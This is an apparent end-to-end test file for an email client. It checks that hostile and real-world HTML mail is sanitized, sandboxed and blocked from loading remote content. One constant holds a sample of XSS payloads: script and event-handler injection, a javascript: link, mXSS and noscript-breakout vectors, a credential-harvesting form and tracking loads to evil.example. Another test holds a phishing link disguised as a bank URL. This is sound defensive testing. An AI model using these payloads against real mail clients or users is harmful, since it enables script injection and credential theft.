// HTML mail as the sender wrote it, safely (issue 11): hostile and real-world messages delivered
// into the real Cyrus, opened as an agent would. No dialog, no script in any frame, no request to
// any origin but the app's (which proxies JMAP) until the agent shows remote content; the text is
// in the sandboxed frame; links, inline images, attachments and undecodable mail as specified.
import fs from 'node:fs';
import path from 'node:path';
import { expect, test, type Page } from './fixtures';
import { deliver, expectTeamInbox, forbidDialogs, jmapAsAlice, row, screenshot, signIn } from './helpers';

const RUN = Date.now().toString(36);
/** What a remote image the agent chose to show is answered with: a grey placeholder. */
const PLACEHOLDER = '<svg xmlns="http://www.w3.org/2000/svg" width="120" height="80"><rect width="120" height="80" fill="#d0d5dd"/></svg>';
const PNG = Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==', 'base64');

function message(subject: string, headers: string, body: string) {
  return (
    `From: Customer <customer@example.net>\nTo: support@tandem.test\nSubject: ${subject}\n` +
    `Date: ${new Date().toUTCString()}\nMessage-ID: <${Math.random().toString(36).slice(2)}.${RUN}@example.net>\nMIME-Version: 1.0\n${headers}\n\n${body}\n`
  );
}

function html(subject: string, markup: string) {
  return message(subject, 'Content-Type: text/html; charset=utf-8\nContent-Transfer-Encoding: 8bit', markup);
}

const HOSTILE = `<html><head><meta http-equiv="refresh" content="0;url=https://evil.example/refresh">
<base href="https://evil.example/"><link rel="prefetch" href="https://evil.example/prefetch">
<style>@import url("https://evil.example/import.css"); body{display:none} .x{background:url(https://evil.example/bg.png)}
@font-face{font-family:E;src:url(https://evil.example/f.woff2)}</style>
<script>parent.pwned = 'script'; alert('script')</script></head>
<body onload="parent.pwned='onload'">
<p class="x">HOSTILE-TEXT-VISIBLE: hi <b>support</b></p>
<img src="https://evil.example/pixel.gif" onerror="parent.pwned='img'" srcset="https://evil.example/2x.gif 2x">
<a href="javascript:parent.pwned='link'">click here</a>
<svg><script>parent.pwned='svg'</script></svg><svg onload="parent.pwned='svgload'"></svg>
<math><mtext><table><mglyph><style><img src=x onerror="parent.pwned='mxss'"></style></mglyph></table></mtext></math>
<form action="https://evil.example/steal"><input name="password"><button>Send</button></form>
<iframe src="https://evil.example/frame"></iframe><object data="https://evil.example/o"></object>
<video poster="https://evil.example/poster.png"></video>
<div style="background-image:url('https://evil.example/div.png')">styled</div>
<noscript><p title="</noscript><img src=x onerror=parent.pwned='noscript'>"></noscript>
</body></html>`;

/** Every request the page makes to an origin other than the app's (the app proxies JMAP). */
function watchRequests(page: Page, appOrigin: string) {
  const away: string[] = [];
  page.on('request', (r) => {
    const url = r.url();
    if (url.startsWith('data:') || url.startsWith('blob:') || url.startsWith('about:')) return;
    if (new URL(url).origin !== appOrigin) away.push(url);
  });
  return away;
}

async function open(page: Page, subject: string) {
  await (await row(page, subject, 30_000)).locator('a').click();
  await expect(page.locator('.conversation h1')).toHaveText(subject);
}

async function noScriptRan(page: Page) {
  expect(await page.evaluate(() => (window as unknown as { pwned?: string }).pwned)).toBeUndefined();
  for (const frame of page.frames()) {
    const pwned = await frame.evaluate(() => (window as unknown as { pwned?: string }).pwned).catch(() => undefined);
    expect(pwned).toBeUndefined();
  }
}

/** Sets a keyword on the newest email with `subject` in the team inbox, as another client would. */
async function setKeyword(subject: string, keyword: string) {
  // Just delivered: Cyrus's search index may not have it yet.
  let id: string | undefined;
  await expect
    .poll(async () => {
      const [[, query]] = await jmapAsAlice([['Email/query', { accountId: 'support', filter: { subject }, limit: 1 }, 'q']]);
      id = query.ids?.[0];
      return id;
    }, { timeout: 20_000 })
    .toBeTruthy();
  const [[, set]] = await jmapAsAlice([['Email/set', { accountId: 'support', update: { [id!]: { [`keywords/${keyword}`]: true } } }, 's']]);
  expect(set.updated).toHaveProperty(id!);
}

test.beforeEach(async ({ page }) => {
  forbidDialogs(page);
  // Remote content the agent chooses to show: answered here, never by the internet.
  await page.route(/^https:\/\/[^/]*example\.(com|net|org)\//, (route) => route.fulfill({ status: 200, contentType: 'image/svg+xml', body: PLACEHOLDER }));
});

test('hostile HTML runs nothing, loads nothing, and its text is shown in the sandboxed frame', async ({ page, baseURL }) => {
  const origin = new URL(baseURL!).origin;
  const subject = `Hostile HTML ${RUN}`;
  deliver(html(subject, HOSTILE));
  const away = watchRequests(page, origin);
  await signIn(page, 'alice', 'tandem');
  await expectTeamInbox(page);
  await open(page, subject);
  const frame = page.frameLocator('.conversation .mail-frame').last();
  await expect(frame.locator('body')).toContainText('HOSTILE-TEXT-VISIBLE: hi support');
  await expect(frame.getByText('HOSTILE-TEXT-VISIBLE')).toBeVisible(); // body{display:none} does not hide it
  await expect(frame.locator('body')).toContainText('styled');
  await expect(frame.locator('body :is(script, svg, math, form, input, button, iframe, object, video, meta, base, link, noscript)')).toHaveCount(0);
  await expect(frame.locator('head :is(script, base, link, style:has-text("evil"))')).toHaveCount(0);
  await expect(frame.locator('head meta[http-equiv="Content-Security-Policy"]')).toHaveAttribute('content', /default-src 'none'; img-src data: blob:;/);
  await expect(frame.locator('[onerror], [onload], [srcset], [poster]')).toHaveCount(0);
  await expect(frame.locator('a', { hasText: 'click here' })).not.toHaveAttribute('href', /.*/);
  const sandbox = await page.locator('.conversation .mail-frame').last().getAttribute('sandbox');
  expect(sandbox).not.toContain('allow-scripts');
  await expect(page.locator('.mail-bar.remote')).toContainText('remote content hidden');
  await page.waitForTimeout(500); // a meta refresh or a late load would show by now
  await noScriptRan(page);
  expect(away).toEqual([]);
  await expect(page.locator('.conversation h1')).toHaveText(subject, { timeout: 1_000 }); // not navigated away
});

test('a real-world newsletter: remote images wait for "Show remote content"', async ({ page, baseURL }) => {
  const origin = new URL(baseURL!).origin;
  const subject = `Spring roast newsletter ${RUN}`;
  const newsletter = fs.readFileSync(path.join(__dirname, '../../core/tests/corpus/newsletter_tables.html'), 'utf8');
  deliver(html(subject, newsletter));
  const away = watchRequests(page, origin);
  await signIn(page, 'alice', 'tandem');
  await expectTeamInbox(page);
  await open(page, subject);
  const bar = page.locator('.mail-bar.remote');
  await expect(bar).toContainText('This message has remote content hidden.');
  const frame = page.frameLocator('.conversation .mail-frame').last();
  await expect(frame.locator('img[src^="https:"]')).toHaveCount(0);
  const iframe = page.locator('.conversation .mail-frame').last();
  expect((await iframe.boundingBox())!.height).toBeGreaterThan(300); // sized to its content
  await bar.scrollIntoViewIfNeeded();
  await screenshot(page, 'html-remote-content-bar');
  expect(away).toEqual([]);
  await noScriptRan(page);

  await bar.getByRole('button', { name: 'Show remote content' }).click();
  await expect(bar).toHaveCount(0);
  await expect(frame.locator('img[src^="https://mcusercontent.example.com/"]').first()).toBeVisible();
  await expect.poll(() => away.some((u) => u.startsWith('https://mcusercontent.example.com/'))).toBe(true);
  await screenshot(page, 'html-newsletter');
  await noScriptRan(page);
});

test('links open in a new tab, a lying link is flagged, and a phishing mail has inert links until trusted', async ({ page }) => {
  const subject = `Verify your account ${RUN}`;
  deliver(html(subject, '<p>Dear customer, <a href="https://evil.example/login">https://www.mybank.com/login</a> or <a href="https://help.example.org/">help</a>.</p>'));
  await setKeyword(subject, '$phishing');
  await signIn(page, 'alice', 'tandem');
  await expectTeamInbox(page);
  await open(page, subject);
  await expect(page.locator('.mail-bar.warning')).toContainText('phishing or junk');
  const frame = page.frameLocator('.conversation .mail-frame').last();
  const lying = frame.locator('a', { hasText: 'mybank' });
  await expect(lying).not.toHaveAttribute('href', /.*/);
  await expect(lying).toHaveClass(/tandem-inert/);
  await page.getByRole('button', { name: 'Trust this message' }).click();
  await expect(page.locator('.mail-bar.warning')).toHaveCount(0);
  await expect(lying).toHaveAttribute('href', 'https://evil.example/login');
  await expect(lying).toHaveAttribute('target', '_blank');
  await expect(lying).toHaveAttribute('rel', 'noopener noreferrer');
  await expect(lying).toHaveClass(/tandem-mismatch/);
  await expect(lying).toHaveAttribute('title', 'This link goes to evil.example, not mybank.com: https://evil.example/login');
  await expect(frame.locator('a', { hasText: 'help' })).toHaveAttribute('title', 'https://help.example.org/');
  await screenshot(page, 'html-phishing-trusted');
  // The titles the sanitizer writes follow a switch of language (the frame is shown again).
  await page.locator('.sidebar .language-switch').selectOption('zh-Hans');
  await expect(lying).toHaveAttribute('title', '此链接指向 evil.example，而不是 mybank.com：https://evil.example/login');
  await page.locator('.sidebar .language-switch').selectOption('en');
  await expect(lying).toHaveAttribute('title', 'This link goes to evil.example, not mybank.com: https://evil.example/login');
});

test('inline cid: images show from the JMAP download, attachments download under their real name', async ({ page, baseURL }) => {
  const origin = new URL(baseURL!).origin;
  const subject = `Inline logo and invoice ${RUN}`;
  const b = `rel-${RUN}`;
  const m = `mix-${RUN}`;
  deliver(
    message(
      subject,
      `Content-Type: multipart/mixed; boundary="${m}"`,
      `--${m}\nContent-Type: multipart/related; boundary="${b}"\n\n--${b}\nContent-Type: text/html; charset=utf-8\n\n` +
        `<p>INLINE-OK</p><img alt="logo" src="cid:logo.${RUN}@example.net">\n--${b}\nContent-Type: image/png\nContent-ID: <logo.${RUN}@example.net>\n` +
        `Content-Transfer-Encoding: base64\nContent-Disposition: inline\n\n${PNG.toString('base64')}\n--${b}--\n` +
        `--${m}\nContent-Type: application/pdf; name="invoice (final) ü.pdf"\nContent-Disposition: attachment; filename*=utf-8''invoice%20%28final%29%20%C3%BC.pdf\n` +
        `Content-Transfer-Encoding: base64\n\n${Buffer.from('%PDF-1.4 fake').toString('base64')}\n--${m}--`,
    ),
  );
  const away = watchRequests(page, origin);
  await signIn(page, 'alice', 'tandem');
  await expectTeamInbox(page);
  await open(page, subject);
  const frame = page.frameLocator('.conversation .mail-frame').last();
  await expect(frame.locator('body')).toContainText('INLINE-OK');
  const img = frame.locator('img[alt="logo"]');
  await expect(img).toHaveAttribute('src', /^blob:/);
  await expect.poll(() => img.evaluate((i: HTMLImageElement) => i.naturalWidth)).toBe(1);
  await expect(page.locator('.attachment-name')).toHaveText(['invoice (final) ü.pdf']);
  const download = page.waitForEvent('download');
  await page.locator('.attachment').getByRole('button', { name: 'Download' }).click();
  expect((await download).suggestedFilename()).toBe('invoice (final) ü.pdf');
  expect(away).toEqual([]);
});

test('plain text: links, folded quote and signature, and dir=auto on every paragraph', async ({ page }) => {
  const subject = `Plain text reply ${RUN}`;
  deliver(
    message(
      subject,
      'Content-Type: text/plain; charset=utf-8',
      'Thanks, see https://docs.example.com/guide. and javascript:alert(1)\n\nOn Mon, Ann wrote:\n> QUOTED-LINE\n\n-- \nBob, ACME',
    ),
  );
  await signIn(page, 'alice', 'tandem');
  await expectTeamInbox(page);
  await open(page, subject);
  const body = page.locator('.conversation .message').last().locator('.body');
  await expect(body.locator('a')).toHaveCount(1);
  await expect(body.locator('a')).toHaveAttribute('href', 'https://docs.example.com/guide');
  await expect(body.locator('a')).toHaveAttribute('rel', 'noopener noreferrer');
  await expect(body.getByText('QUOTED-LINE')).toBeHidden();
  await body.getByRole('button', { name: '…' }).first().click();
  await expect(body.getByText('QUOTED-LINE')).toBeVisible();
  const paragraphs = body.locator('p');
  expect(await paragraphs.count()).toBeGreaterThan(1);
  await expect(body.locator('p:not([dir="auto"])')).toHaveCount(0);
  await expect(page.locator('.conversation iframe')).toHaveCount(0);
});

test('a message the server cannot decode says so and offers the original', async ({ page }) => {
  const subject = `No boundary ${RUN}`;
  deliver(message(subject, 'Content-Type: multipart/mixed', 'This multipart has no boundary at all.\n'));
  await signIn(page, 'alice', 'tandem');
  await expectTeamInbox(page);
  await open(page, subject);
  const bar = page.locator('.conversation .mail-bar.problem');
  await expect(bar).toBeVisible();
  const download = page.waitForEvent('download');
  await bar.getByRole('button', { name: 'Download the original' }).click();
  expect((await download).suggestedFilename()).toBe('message.eml');
});

test('"Always for this sender" shows remote content of their next message too, on this device', async ({ page }) => {
  const first = `Pictures one ${RUN}`;
  const second = `Pictures two ${RUN}`;
  const from = (subject: string) =>
    html(subject, '<p>PICTURES</p><img alt="remote" src="https://cdn.example.com/p.png">').replace('From: Customer <customer@example.net>', `From: Photo Shop <shop.${RUN}@example.com>`);
  deliver(from(first));
  deliver(from(second));
  await signIn(page, 'alice', 'tandem');
  await expectTeamInbox(page);
  await open(page, first);
  const bar = page.locator('.mail-bar.remote');
  await bar.getByRole('button', { name: 'Always for this sender' }).click();
  await expect(bar).toHaveCount(0);
  await expect(page.frameLocator('.conversation .mail-frame').last().locator('img[alt="remote"]')).toHaveAttribute('src', 'https://cdn.example.com/p.png');
  await page.goBack();
  await open(page, second);
  await expect(page.frameLocator('.conversation .mail-frame').last().locator('img[alt="remote"]')).toHaveAttribute('src', 'https://cdn.example.com/p.png');
  await expect(page.locator('.mail-bar.remote')).toHaveCount(0);
});
